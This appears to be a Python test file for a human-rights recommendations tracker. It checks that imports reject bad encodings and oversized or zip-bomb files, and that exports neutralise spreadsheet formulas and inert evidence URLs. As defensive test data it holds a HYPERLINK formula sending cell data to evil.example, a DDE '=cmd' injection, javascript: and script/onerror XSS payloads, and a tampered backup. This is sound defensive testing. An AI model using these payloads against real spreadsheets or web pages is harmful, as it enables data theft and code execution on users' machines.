"""Issue 13, points 2, 8, 9 and 10: imports that would silently corrupt data are refused or
reported; uploads are bounded and need the editor role; nothing we export holds a live
spreadsheet formula; evidence URLs are checked at every entry and inert in every output."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from tests.importer_support import (
    UPR_INFO_HEADER,
    add_recommendation,
    backups_in_tmp,  # noqa: F401 - an autouse fixture
    csv_bytes,
    new_engine,
    recommendations,
    run_import,
    stats,
    upr_row,
    write,
)
from tracker import auth, backup, cli, db, exports, flags, submission, template_format
from tracker.assessments import ValidationError, add_assessment
from tracker.importers import ImportSource, import_files, read_file
from tracker.importers.inputs import RecommendationInput
from tracker.models import Assessment
from tracker.safe_output import check_url, link_target, neutralise_cell, restore_cell
from tracker.settings import DATABASE_URL_ENV
from tracker.submission import ReportSettings, build_report

FRENCH = "Garantir l'accès à la justice et à l'éducation des enfants handicapés"
JAPANESE = "障害のある子どもの教育への権利を保障すること"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    return new_engine(tmp_path)


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, engine: Engine) -> Engine:
    monkeypatch.setenv(DATABASE_URL_ENV, str(engine.url))
    yield engine
    db.dispose_engines()


def _texts(engine: Engine) -> list[str]:
    return [r["text"] for r in recommendations(engine)]


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = cli.main(["import", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --- 2. encodings, duplicate columns, workbook dimensions ---------------------------------------
def test_a_shift_jis_file_is_refused_naming_the_file_and_imports_with_encoding(
    tmp_path: Path, cli_db: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [upr_row(text_=JAPANESE), upr_row(text_=JAPANESE + "。", rs="Japan")]
    f = write(tmp_path / "sjis.csv", csv_bytes(UPR_INFO_HEADER, rows, encoding="shift_jis"))
    code, _out, err = _cli(capsys, str(f))
    assert code == 1
    assert err.startswith(f"{f}: the file is not UTF-8, and it looks like cp932 text")
    assert "--encoding" in err
    assert stats(cli_db)["recommendations"] == 0
    code, out, err = _cli(capsys, str(f), "--encoding", "shift_jis")
    assert (code, err) == (0, "")
    assert "shift_jis" in out
    assert JAPANESE in _texts(cli_db)


def test_a_latin1_file_with_a_byte_cp1252_lacks_is_refused_not_read_as_mac_roman(
    tmp_path: Path, cli_db: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    # 0x9D is a C1 control in Latin-1 and undefined in cp1252: today's reader fell back to
    # Mac Roman, which stored "accËs".
    data = csv_bytes(UPR_INFO_HEADER, [upr_row(text_=FRENCH + "\x9d")], encoding="latin-1")
    f = write(tmp_path / "latin1.csv", data)
    code, _out, err = _cli(capsys, str(f))
    assert code == 1
    assert "--encoding" in err
    assert stats(cli_db)["recommendations"] == 0
    code, _out, err = _cli(capsys, str(f), "--encoding", "latin-1")
    assert (code, err) == (0, "")
    assert any(t.startswith("Garantir l'accès") for t in _texts(cli_db))


def test_one_invalid_byte_in_a_utf8_file_is_refused_with_its_line(
    tmp_path: Path, cli_db: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [upr_row(text_=FRENCH + f" {i}.") for i in range(30)]
    good = csv_bytes(UPR_INFO_HEADER, rows, encoding="utf-8")  # no BOM: nothing says UTF-8
    bad = good + b"Kazakhstan;Asia;CIS;Women\x92s rights;France;WEOG;EU;Supported;5;x;20\r\n"
    f = write(tmp_path / "broken.csv", bad)
    code, _out, err = _cli(capsys, str(f))
    assert code == 1
    assert "is UTF-8 text except for byte" in err
    assert "(line 32)" in err
    assert stats(cli_db)["recommendations"] == 0  # never Windows-1252 mojibake ("accÃ¨s")


def test_an_unknown_encoding_name_is_a_message(
    tmp_path: Path, cli_db: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    f = write(tmp_path / "a.csv", csv_bytes(UPR_INFO_HEADER, [upr_row()]))
    code, _out, err = _cli(capsys, str(f), "--encoding", "klingon")
    assert code == 1
    assert (
        err == f"{f}: 'klingon' is not an encoding Python knows (e.g. utf-8, cp1252, "
        "latin-1, shift_jis)\n"
    )


def test_a_guessed_encoding_is_reported_in_the_summary(engine: Engine) -> None:
    data = csv_bytes(UPR_INFO_HEADER, [upr_row(text_=FRENCH)], encoding="cp1252")
    report = run_import(engine, [ImportSource("w.csv", data)])
    assert report.ok
    assert (
        "w.csv: warning: the file is not UTF-8; it was read as Windows-1252 (a guess). If "
        "letters look wrong in the preview, import it again with --encoding NAME, or save it "
        "as UTF-8." in report.summary_lines()
    )
    assert _texts(engine) == [FRENCH]


@pytest.mark.parametrize("column", ["Recommendation", "RS", "Session"])
def test_a_repeated_column_is_an_error_naming_it(engine: Engine, column: str) -> None:
    header = [*UPR_INFO_HEADER, column]
    rows = [[*upr_row(), {"Recommendation": "Other.", "RS": "Chile", "Session": "34"}[column]]]
    report = run_import(engine, [ImportSource("dup.csv", csv_bytes(header, rows))])
    assert not report.ok
    position = UPR_INFO_HEADER.index(column) + 1
    assert [str(p) for p in report.problems] == [
        f"dup.csv:1: {column}: the column '{column}' appears 2 times (columns {position}, 12: "
        f"'{column}', '{column}'); only one can be read: remove or rename the others"
    ]
    assert stats(engine)["recommendations"] == 0


def test_the_repeated_rgrp_and_org_of_a_real_export_still_import(engine: Engine) -> None:
    report = run_import(engine, [ImportSource("u.csv", csv_bytes(UPR_INFO_HEADER, [upr_row()]))])
    assert report.ok
    assert report.added == 1


def _xlsx_with_dimension(rows: list[list[object]], dimension: str) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                start = text.index("<dimension ref=")
                end = text.index("/>", start) + 2
                data = (text[:start] + f'<dimension ref="{dimension}"/>' + text[end:]).encode()
            dst.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_whose_dimension_tag_is_too_small_loses_no_row(engine: Engine) -> None:
    rows = [UPR_INFO_HEADER, *(upr_row(text_=f"Recommendation {i}.") for i in range(5))]
    data = _xlsx_with_dimension(rows, "A1:A1")
    report = run_import(engine, [ImportSource("dim.xlsx", data)])
    assert report.ok, report.problems
    assert (report.rows_read, report.added) == (5, 5)


def test_an_xlsx_claiming_a_huge_dimension_reads_only_its_cells(engine: Engine) -> None:
    rows = [UPR_INFO_HEADER, upr_row()]
    report = read_file(ImportSource("big.xlsx", _xlsx_with_dimension(rows, "A1:XFD1048576")))
    assert report.fatal is None
    assert report.rows_valid == 1


# --- 8. uploads: who, how much, and the write lock -----------------------------------------------
def test_a_viewer_cannot_have_an_upload_parsed(engine: Engine) -> None:
    source = ImportSource("u.csv", csv_bytes(UPR_INFO_HEADER, [upr_row()]))
    for who in (auth.acting_as("donor", "viewer"), auth.acting_as(auth.anonymous())):
        with who, db.session_scope(engine) as s, pytest.raises(auth.PermissionDenied):
            import_files(s, [source], dry_run=True)
    with auth.acting_as("editor1", "editor"), db.session_scope(engine) as s:
        assert import_files(s, [source], dry_run=True).added == 1


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        (
            "UPR_TRACKER_MAX_UPLOAD_MB",
            "0.01",
            "u.csv: the file is 0.018 MB; at most 0.01 MB can be imported "
            "(UPR_TRACKER_MAX_UPLOAD_MB)",
        ),
        (
            "UPR_TRACKER_MAX_ROWS",
            "3",
            "u.csv: the file has more than 3 rows; at most 3 can be imported at once "
            "(UPR_TRACKER_MAX_ROWS): split it into several files",
        ),
        (
            "UPR_TRACKER_MAX_CELL_CHARS",
            "200",
            "u.csv: row 3, column 4: the cell holds 300 characters; at most 200 are allowed "
            "(UPR_TRACKER_MAX_CELL_CHARS)",
        ),
    ],
)
def test_limits_refuse_a_file_with_a_message(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, variable: str, value: str, message: str
) -> None:
    rows = [upr_row(), upr_row(text_="x" * 300), *(upr_row(text_=f"R {i}.") for i in range(200))]
    monkeypatch.setenv(variable, value)
    report = run_import(engine, [ImportSource("u.csv", csv_bytes(UPR_INFO_HEADER, rows))])
    assert [str(p) for p in report.problems] == [message]
    assert stats(engine)["recommendations"] == 0


def test_a_workbook_over_the_row_limit_is_refused_while_streaming(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UPR_TRACKER_MAX_ROWS", "10")
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sheet")
    ws.append(UPR_INFO_HEADER)
    for i in range(50):
        ws.append(upr_row(text_=f"R {i}."))
    buf = io.BytesIO()
    wb.save(buf)
    report = read_file(ImportSource("many.xlsx", buf.getvalue()))
    assert report.fatal is not None
    assert "more than 10 rows" in report.fatal


def test_a_zip_bomb_workbook_is_refused_before_it_is_parsed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("UPR_TRACKER_MAX_UPLOAD_MB", "1")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/sharedStrings.xml", "<si><t>a</t></si>" * 1_000_000)  # 17 MB
    assert len(buf.getvalue()) < 200_000
    report = read_file(ImportSource("bomb.xlsx", buf.getvalue()))
    assert report.fatal is not None
    assert "expands to 16.2 MB; at most 10 MB can be read" in report.fatal


def test_the_file_is_parsed_before_the_write_lock_is_taken(engine: Engine) -> None:
    rows = [upr_row(text_=f"Recommendation number {i}.") for i in range(3000)]
    source = ImportSource("u.csv", csv_bytes(UPR_INFO_HEADER, rows))
    path = engine.url.database
    assert path
    writes: list[str] = []

    def progress(fraction: float, message: str) -> None:
        if fraction < 0.5 and not writes:  # still reading the file
            other = sqlite3.connect(path, timeout=0)
            try:
                other.execute("BEGIN IMMEDIATE")
                other.execute("ROLLBACK")
                writes.append("written")
            except sqlite3.OperationalError as exc:
                writes.append(str(exc))
            finally:
                other.close()

    report = run_import(engine, [source], progress=progress)
    assert report.added == 3000
    assert writes == ["written"]  # another writer was not locked out while we parsed


# --- 9. no live formulas in what we export ---------------------------------------------------
def test_neutralise_and_restore_are_inverse() -> None:
    for text in ("=1+1", "+7 700", "-", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert neutralise_cell(text) == "'" + text
        assert restore_cell(neutralise_cell(text)) == text
    assert neutralise_cell("Ratify") == "Ratify"
    assert neutralise_cell(-3) == -3
    assert restore_cell("'quoted'") == "'quoted'"


def _store(session: Session, text: str, **kwargs: object) -> int:
    rec_id = add_recommendation(
        session,
        RecommendationInput(
            state_under_review="Kazakhstan",
            session=20,
            text=text,
            response="supported",
            recommending_states=["France"],
            **kwargs,  # type: ignore[arg-type]
        ),
    )
    session.flush()
    return rec_id


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_every_csv_and_xlsx_export_neutralises_formulas(engine: Engine, tmp_path: Path) -> None:
    with db.session_scope(engine) as s:
        rid = _store(s, FORMULA)
        add_assessment(
            s,
            rid,
            status="partially_implemented",
            assessed_on="2024-01-01",
            source_org="@evil",
            evidence="-2+3",
        )
    with db.session_scope(engine) as s:
        # Explorer download (the template, CSV and XLSX)
        cells = _csv_cells(exports.filtered_export(s, None, "csv"))
        assert "'" + FORMULA in cells
        assert "'@evil" in cells
        assert "'-2+3" in cells
        assert FORMULA not in cells
        book = load_workbook(io.BytesIO(exports.filtered_export(s, None, "xlsx")))
        values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
        assert "'" + FORMULA in values
        assert FORMULA not in values
        # Flagged download
        flagged = exports.flagged_export(s, None, "partial", flags.FlagOptions(), "csv")
        cells = _csv_cells(flagged)
        assert "'" + FORMULA in cells
        assert "'@evil" in cells
        # Report CSV
        report = build_report(s, ReportSettings(state="KAZ", organisations=("A",)))
        assert "'" + FORMULA in _csv_cells(submission.to_csv(report))
    # Rejected rows
    rows = [upr_row(text_="=cmd|'/c calc'!A1", session="x")]
    rejected = run_import(
        engine, [ImportSource("r.csv", csv_bytes(UPR_INFO_HEADER, rows))], skip_invalid=True
    )
    assert "'=cmd|'/c calc'!A1" in _csv_cells(rejected.rejects_csv())


def test_an_exported_template_imports_back_to_the_same_text(engine: Engine, tmp_path: Path) -> None:
    texts = [FORMULA, "- a bulleted recommendation", "+7 is a phone prefix", "@mention"]
    with db.session_scope(engine) as s:
        for t in texts:
            _store(s, t)
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"export.{suffix}"
        with db.session_scope(engine) as s:
            template_format.export(s, path, None)
        other = new_engine(tmp_path, f"other-{suffix}.db")
        report = run_import(other, [path])
        assert report.ok, report.problems
        assert sorted(_texts(other)) == sorted(texts)
        other.dispose()


# --- 10. evidence URLs ---------------------------------------------------------------------------
BAD_URLS = [
    "https://example.org/a>b",
    'https://example.org/"onmouseover="x',
    "https://example.org/a b",
    "https://example.org/<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https:///no-host",
    "https://example.org/\nx",
]


@pytest.mark.parametrize("url", BAD_URLS)
def test_a_bad_url_is_refused_by_the_form_and_the_cli(engine: Engine, url: str) -> None:
    with db.session_scope(engine) as s:
        rid = _store(s, "Ratify.")
        with pytest.raises(ValidationError) as info:
            add_assessment(
                s,
                rid,
                status="not_implemented",
                assessed_on="2024-01-01",
                source_org="NGO",
                evidence_url=url,
            )
        assert info.value.field == "url"


@pytest.mark.parametrize("url", BAD_URLS)
def test_a_bad_url_is_refused_by_the_template_importer(engine: Engine, url: str) -> None:
    header = [
        "state_under_review",
        "session",
        "recommendation",
        "status",
        "assessed_on",
        "assessment_source",
        "evidence_url",
    ]
    row = ["Kazakhstan", "20", "Ratify.", "not_implemented", "2024-01-01", "NGO", url]
    report = run_import(engine, [ImportSource("t.csv", csv_bytes(header, [row]))])
    assert not report.ok
    assert [p.column for p in report.problems] == ["evidence_url"]


def test_good_urls_pass_and_are_percent_encoded_for_output() -> None:
    url = "https://en.wikipedia.org/wiki/Law_(Kazakhstan)?q=a&b=%20#top"
    assert check_url(url) == url
    assert link_target(url) == "https://en.wikipedia.org/wiki/Law_%28Kazakhstan%29?q=a&b=%20#top"
    for bad in BAD_URLS:
        assert link_target(bad) is None


def _assessed_with_raw_url(engine: Engine, url: str) -> None:
    """An assessment whose URL got into the database before the validation existed."""
    with db.session_scope(engine) as s:
        rid = _store(s, "Ratify the <img src=x onerror=alert(1)> convention.")
        add_assessment(
            s,
            rid,
            status="not_implemented",
            assessed_on="2024-01-01",
            source_org="NGO",
            evidence_url="https://example.org/ok",
        )
    with db.session_scope(engine) as s:
        s.execute(update(Assessment).values(evidence_url=url))


@pytest.mark.parametrize(
    "url",
    ["https://evil.example/x.png>![](https://evil.example/track.png", "javascript:alert(1)"],
)
def test_the_report_never_carries_a_stored_bad_url_or_raw_html(engine: Engine, url: str) -> None:
    _assessed_with_raw_url(engine, url)
    with db.session_scope(engine) as s:
        report = build_report(s, ReportSettings(state="KAZ", organisations=("A",)))
        md = submission.to_markdown(report)
        docx = submission.to_docx(report)
    assert "evil.example" not in md
    assert "javascript" not in md
    assert "<img" not in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
    with zipfile.ZipFile(io.BytesIO(docx)) as zf:
        rels = "".join(zf.read(n).decode() for n in zf.namelist() if n.endswith(".rels"))
    assert "evil.example" not in rels
    assert "javascript" not in rels


def test_a_url_with_parentheses_is_percent_encoded_in_the_markdown(engine: Engine) -> None:
    with db.session_scope(engine) as s:
        rid = _store(s, "Ratify.")
        add_assessment(
            s,
            rid,
            status="not_implemented",
            assessed_on="2024-01-01",
            source_org="NGO",
            evidence_url="https://example.org/law_(2024)",
        )
    with db.session_scope(engine) as s:
        report = build_report(s, ReportSettings(state="KAZ", organisations=("A",)))
        md = submission.to_markdown(report)
    # Evidence is a footnote now (issue #15): its link, percent-encoded, follows the source.
    assert "NGO, 1 January 2024" in md
    assert "](<https://example.org/law_%282024%29>)" in md


def test_a_restore_refuses_a_backup_with_a_bad_url(engine: Engine, tmp_path: Path) -> None:
    _assessed_with_raw_url(engine, "https://example.org/ok")
    path = tmp_path / "b.zip"
    with auth.acting_as("admin", "admin"):
        backup.write_backup(engine, path)
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tampered, "w") as dst:
        manifest = json.loads(src.read(backup.MANIFEST))
        for item in src.infolist():
            if item.filename == backup.MANIFEST:
                continue
            data = src.read(item.filename)
            data = data.replace(b"https://example.org/ok", b"https://x.org/a><script>")
            for entry in manifest["tables"]:  # a consistent backup, as an attacker would make
                if entry["file"] == item.filename:
                    entry["sha256"] = hashlib.sha256(data).hexdigest()
            dst.writestr(item, data)
        dst.writestr(backup.MANIFEST, json.dumps(manifest))
    other = new_engine(tmp_path, "restored.db")
    with auth.acting_as("admin", "admin"), pytest.raises(backup.BackupError) as info:
        backup.restore(other, tampered)
    assert "evidence_url" in str(info.value)
    assert "angle bracket" in str(info.value)
    assert stats(other)["recommendations"] == 0
    other.dispose()


def test_limits_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from tracker import settings

    assert (settings.max_upload_bytes(), settings.max_rows(), settings.max_cell_chars()) == (
        50 * 2**20,
        500_000,
        20_000,
    )
    monkeypatch.setenv("UPR_TRACKER_MAX_ROWS", "nope")
    with pytest.raises(ValueError, match="UPR_TRACKER_MAX_ROWS"):
        settings.max_rows()
